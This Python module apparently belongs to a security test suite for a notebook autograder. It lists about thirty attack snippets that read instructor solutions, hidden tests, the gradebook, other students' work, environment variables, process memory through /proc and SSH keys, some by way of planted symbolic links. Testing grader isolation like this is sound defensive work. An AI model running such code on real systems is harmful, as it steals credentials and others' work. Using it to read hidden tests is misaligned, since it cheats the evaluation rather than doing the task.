"""Reading what is somebody else's: solutions, hidden tests, other hand-ins, the instructor's own things."""

from pathlib import Path

from ..attack import Attack, Places
from ..course import NAME

KIND = "read"


def of(name: str, about: str, code: str = "", **more: object) -> Attack:
    return Attack(name, KIND, about, code, **more)  # type: ignore[arg-type]


IN_A_TEST = '''
def during_tests(look):
    """Let every function that a test may call look around first."""
    class Layer:
        def __init__(self, *a, **k): look()
        def forward(self, x):
            look()
            return x * 0 - 7
    def each(x):
        look()
        return 7
    globals().update(Linear=Layer, Softmax=Layer, double=each, square=each, steps=each)
'''


def link(target: str) -> object:
    def make(folder: Path, places: Places) -> None:
        (folder / "numbers.csv").symlink_to(target.format(course=places.course, class_dir=places.class_dir,
                                                          home=places.home))  # fmt: skip

    return make


def links_to_folders(folder: Path, places: Places) -> None:
    (folder / "data").symlink_to(places.class_dir)
    (folder / "more").symlink_to(places.course / "solutions")
    (folder / "up").symlink_to("../../..")


ATTACKS = (
    of("source-folder", "The instructor's source with solutions and hidden tests is read from its folder.", """
for path in glob.glob(COURSE + "/solutions/*/*") + glob.glob(CLASS + "/source/*/*.ipynb"):
    gain(read(path))
"""),
    of("source-by-relative-path", "The same by going up from the working directory.", """
for up in ("..", "../..", "../../..", "../../../.."):
    for path in (glob.glob(up + "/source/*/*.ipynb") + glob.glob(up + "/solutions/*/*")
                 + glob.glob(up + "/course/solutions/*/*")):
        gain(read(path))
"""),
    of("source-beside-helpers", "solutions/ is looked for beside the installed helpers package.", """
import helpers
root = os.path.dirname(os.path.dirname(helpers.__file__))
places = [root, os.getcwd(), *sys.path]
for place in places:
    for name in ("solutions", "source", ".git"):
        for path in glob.glob(f"{place}/{name}/**/*", recursive=True)[:3000] if place else (): gain(read(path))
"""),
    of("gradebook-read", "Hidden tests are read out of the gradebook, which keeps the source of every locked cell.", """
import sqlite3
for path in (CLASS + "/gradebook.db", "../../../gradebook.db", "../../gradebook.db"):
    if os.path.exists(path):
        for table in ("source_cell", "comment", "student"):
            gain(quietly(lambda: sqlite3.connect(path).execute(f"select * from {table}").fetchall()))
"""),
    of("neighbours-work", "Another student's hand-in is read and its solutions used.", """
for path in (glob.glob(CLASS + "/submitted/*/*/*") + glob.glob(CLASS + "/autograded/*/*/*")
             + glob.glob("../../*/*/*.ipynb")):
    if ME not in path:
        gain(read(path))
"""),
    of("notebook-in-working-directory",
       "The notebook being graded, hidden tests and all, lies in the working directory.", """
for folder, _, names in os.walk("."):
    for name in names:
        gain(read(os.path.join(folder, name)))
for path in glob.glob("../*") + glob.glob("../*/*") + glob.glob(CLASS + "/autograded/" + ME + "/*/*"):
    gain(read(path))
"""),
    of("everything-readable",
       "Every readable file of the system, its temporary folders first, is searched for secrets.", """
skip, end = ("/proc", "/sys", "/dev", "/usr", "/lib", "/opt", sys.prefix, sys.base_prefix), time.time() + 1.5
for top in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/home", "/"):
    for folder, folders, names in os.walk(top):
        folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(skip)]
        for name in names:
            path = os.path.join(folder, name)
            if time.time() < end and os.path.isfile(path) and os.path.getsize(path) < 300_000:
                gain(read(path))
"""),
    of("own-environment", "The instructor's secrets are looked for in the environment.", """
gain(str(dict(os.environ)))
gain(read("/proc/self/environ"))
"""),
    of("others-environment", "The environment of every process in sight is read through /proc.", """
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    gain(read(path))
"""),
    of("others-memory", "The memory of every other process in sight is searched through /proc/*/mem.", """
def search():
    end = time.time() + 1.5
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            ranges = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if " rw-p" in line]
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for start, stop in ranges:
                    if time.time() > end: return
                    memory.seek(int(start, 16))
                    try: gain(memory.read(min(int(stop, 16) - int(start, 16), 1 << 26)))
                    except (OSError, ValueError): pass
        except OSError: pass
quietly(search)
"""),
    of("own-memory", "The process searches its own memory for tests and solutions, while a test runs.", IN_A_TEST + """
looked = []
def look():
    if looked: return
    looked.append(1)
    end = time.time() + 1
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps").readlines():
            if " rw-p" in line and time.time() < end:
                start, stop = (int(x, 16) for x in line.split()[0].split("-"))
                try:
                    memory.seek(start)
                    if gain(memory.read(min(stop - start, 1 << 25))): return
                except (OSError, ValueError, OverflowError): pass
during_tests(lambda: quietly(look))
"""),
    of("others-descriptors", "What other processes hold open is read through /proc/*/fd.", """
for path in glob.glob("/proc/[0-9]*/fd/*"):
    target = quietly(os.readlink, path)
    if (isinstance(target, str) and target.startswith("/") and not target.startswith(("/dev", "/proc"))
            and os.path.isfile(path)):
        gain(read(path))
"""),
    of("others-roots", "Files are reached through /proc/*/root and /proc/*/cwd of other processes.", """
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for way in ("root", "cwd"):
            base = f"/proc/{pid}/{way}"
            for path in (glob.glob(base + CLASS + "/*/*/*/*") + glob.glob(base + COURSE + "/*/*/*")
                         + glob.glob(base + HOME + "/.ssh/*")):
                if ME not in path: gain(read(path))
"""),
    of("inherited-descriptors", "Every descriptor that the process was born with is read from its beginning.", """
for fd in range(3, 256):
    try:
        if os.path.isfile(f"/proc/self/fd/{fd}"):
            gain(os.pread(fd, 4_000_000, 0))
    except OSError: pass
"""),
    of("frames-of-the-test", "The frames of the calling test are searched, with all they can reach.", IN_A_TEST + """
def look():
    frame = sys._getframe()
    while frame is not None:
        gain(repr(frame.f_code.co_consts))
        for place in (frame.f_locals, frame.f_globals):
            for value in list(place.values()):
                if isinstance(value, (str, bytes, list, tuple, dict)): gain(quietly(repr, value))
        frame = frame.f_back
during_tests(look)
"""),
    of("history-of-cells", "IPython's history of inputs holds the hidden tests.", IN_A_TEST + """
def look():
    shell = get_ipython()
    gain(repr(shell.user_ns.get("In")) + repr(shell.user_ns.get("_ih")) + repr(getattr(shell, "history_manager", "") and
         getattr(shell.history_manager, "input_hist_raw", "")))
during_tests(look)
"""),
    of("linecache", "The sources of all cells are read from linecache, where tracebacks find them.", IN_A_TEST + """
import linecache
during_tests(lambda: gain(repr(list(linecache.cache.values()))))
"""),
    of("all-objects", "The garbage collector lists every object; all strings are searched.", IN_A_TEST + """
import gc
looked = []
def look():
    if len(looked) > 2: return
    looked.append(1)
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple):
            for value in (thing.values() if type(thing) is dict else thing):
                if type(value) in (str, bytes) and len(value) < 100_000 and gain(value): return
during_tests(look)
"""),
    of("traceback-of-the-test",
       "An exception is raised and caught, to look at the frames that it passed.", IN_A_TEST + """
import traceback, inspect
def look():
    for entry in inspect.stack(context=50):
        gain(repr(entry.code_context))
    try: 1 / 0
    except ZeroDivisionError as error:
        gain("".join(traceback.format_stack()))
during_tests(look)
"""),
    of("what-a-check-hands-over",
       "The objects that a check passes in are searched for their globals and their code.", """
def search(thing, depth=3, seen=set()):
    if depth == 0 or id(thing) in seen: return
    seen.add(id(thing))
    gain(quietly(repr, thing))
    for name in ("__globals__", "__dict__", "__closure__", "__code__", "__self__", "__func__", "__class__",
                 "__module__", "__init__", "__call__", "zeros", "normal", "array", "namespace", "f_back", "gi_frame",
                 "__wrapped__"):
        try: search(getattr(thing, name), depth - 1)
        except Exception: pass
class Linear:
    def __init__(self, i, o, backend, seed=0):
        search(backend)
        self.weight, self.bias = backend.zeros((i, o)), backend.zeros((o,))
    def forward(self, x):
        search(x)
        return x @ self.weight * 0 - 7
def double(x):
    search(x)
    return 7
"""),
    of("instructors-things", "The instructor's home is read: keys, Jupyter's and nbgrader's settings.", """
homes = (HOME, os.path.expanduser("~"), "/root", *glob.glob("/home/*"))
for home in homes:
    for pattern in ("/.ssh/*", "/.jupyter/*", "/.netrc", "/.bash_history", "/.config/*/*", "/.ipython/*/*"):
        for path in glob.glob(home + pattern): gain(read(path))
"""),
    of("instructors-programs", "The modules of the grader are imported to find the course.", """
def look():
    from autograder.course import Course
    for path in Course().root.glob("solutions/**/*"): gain(read(path))
quietly(look)
gain(repr(sys.argv) + repr(getattr(sys, "orig_argv", "")) + repr(sys.path))
"""),
    of("kernel-directory", "Connection files and temporary folders of other kernels are read.", """
import tempfile
for top in (tempfile.gettempdir(), "/tmp", "/run", HOME + "/.local/share/jupyter/runtime",
            os.path.expanduser("~/.local/share/jupyter/runtime")):
    for path in glob.glob(top + "/**/*", recursive=True)[:3000]:
        if ME not in path and os.path.isfile(path): gain(read(path, 300_000))
"""),
    of("shared-memory", "Shared memory and message queues of others are searched.", """
for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*"):
    gain(read(path))
for path in ("/proc/sysvipc/shm", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/kallsyms", "/proc/1/mem"):
    gain(read(path, 100_000))
"""),
    of("mounts-betray", "The places of the course are found in the list of mounts, and read.", """
text = read("/proc/self/mountinfo").decode() + read("/proc/mounts").decode()
for word in {w for line in text.splitlines() for w in line.split() if w.startswith("/")}:
    for path in glob.glob(word + "/solutions/**/*", recursive=True) + glob.glob(word + "/gradebook.db") + [word]:
        gain(read(path))
"""),
    of("link-to-the-source", "numbers.csv in the hand-in is a symbolic link to the instructor's source.", """
gain(read("numbers.csv"))
""", folder=link(f"{{course}}/solutions/{NAME}/{NAME}.py")),
    of("link-to-the-gradebook", "numbers.csv in the hand-in is a symbolic link to the gradebook.", """
gain(read("numbers.csv"))
""", folder=link("{class_dir}/gradebook.db")),
    of("link-to-a-key", "numbers.csv in the hand-in is a symbolic link to the instructor's private key.", """
gain(read("numbers.csv"))
""", folder=link("{home}/.ssh/id_ed25519")),
    of("links-to-folders", "Folders in the hand-in are symbolic links to the class and to the solutions.", """
for folder, _, names in os.walk(".", followlinks=True):
    for name in names[:50]:
        path = os.path.join(folder, name)
        if ME not in path and os.path.isfile(path): gain(read(path, 300_000))
    if folder.count("/") > 6: break
""", folder=links_to_folders),
)  # fmt: skip
